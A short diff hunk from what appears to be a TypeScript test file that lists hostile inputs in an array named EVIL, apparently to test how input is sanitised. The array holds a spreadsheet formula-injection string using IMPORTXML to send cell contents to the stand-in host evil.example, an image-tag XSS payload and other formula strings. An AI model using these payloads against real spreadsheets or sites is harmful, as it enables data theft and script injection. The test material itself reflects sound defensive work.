@@ -29,7 +29,7 @@ const EVIL = [
   '=IMPORTXML("https://evil.example/?"&A1,"//a")',
   '<img src=x onerror=alert(1)>',
   '+SUM(one, two, three)',
-  "@SUM(1+1)\u0007'",
+  "@SUM(one, two)\u0007'",
 ];
 /** Every text of the commands that take most of them, each with another one of these. */
 function evilInputs(own: Register): [string, string, object][] {
